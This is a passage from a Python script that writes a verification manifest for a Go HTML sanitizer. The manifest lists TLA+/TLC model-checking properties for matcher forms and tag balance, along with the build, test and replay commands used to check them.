 "C19": ("BM_Matchers.tla: the documented form of each exported matcher as a TLA+ recogniser; closure and hostile-freedom of the documented forms checked by TLC; exhaustive strings up to MaxLen and substitutions of the documented examples compared with the real regexps (accepted => documented form; example => accepted)", "4.7, 6/C19, 9"),
 "C09": ("I09 (balance form): no stray end tag, nothing left open when the input is closed; checked by TLC on all histories; verdict = stack-balance of the re-tokenised real output whenever the input balances", "4.3, 6/C09"),
}
NOTE = ("trusted: TLC; x/net/html as tokenizer/parser of record; Go regexp, net/url, douceur for fact tables; the harness oracles and concretiser "
        "(self-checked: generated bytes must tokenise back to the abstract tokens). Bounds: see evidence jobs.")

def main():
    props = [json.loads(l) for l in open(os.path.join(VERIF, "properties.jsonl"))]
    checks, na = [], []
    for p in props:
        pid = p["id"]
        if pid in plans.PLANS and pid in TEXT:
            txt, ref = TEXT[pid]
            checks.append(dict(property_id=pid, quick_cmd="bin/vcheck %s quick" % pid, thorough_cmd="bin/vcheck %s thorough" % pid,
                               evidence_file="/verif/evidence/%s.json" % pid, replay_cmd_template="bin/vcheck --replay {path}",
                               engine="tlc+vh",
                               level_claimed=dict(category="model_checking", text=txt, design_ref=ref),
                               level_note=NOTE,
                               technique="explicit TLA+ spec model-checked with TLC; TLC-generated cases replayed into the real code and recorded real executions validated against the spec (trace validation); oracle-confirmed verdicts"))
        else:
            na.append(dict(property_id=pid, reason="check under construction in this round (specification module not yet bound to the code); see DESIGN.md section 9a for the order of construction"))
    m = dict(version=1, setup_cmd="bin/vcheck build",
             hooks=dict(guard="verif", enable="go build -tags verif (files verif_on.go / css/verif_on.go; no-op twins verif_off.go)",
                        baseline_off_cmd="cd /repo && go test -vet=off -count=1 ./...",
                        source_commits=["fdd399a"], add_only=True),
             engines=[dict(name="tlc+vh", path="/verif/bin/vcheck", serves_properties=[c["property_id"] for c in checks],
                           kind_free_text="TLC (spec/*.tla) + Go conformance harness (harness/, binary .build/vh) driven by bin/vcheck")],
             checks=checks, not_applicable=na,
             notes="Known findings and fixed defects: known_findings.json. Design: DESIGN.md.")
    json.dump(m, open(os.path.join(VERIF, "MANIFEST.json"), "w"), indent=1)
    print("checks:", [c["property_id"] for c in checks], "n/a:", len(na))

if __name__ == "__main__":
    main()
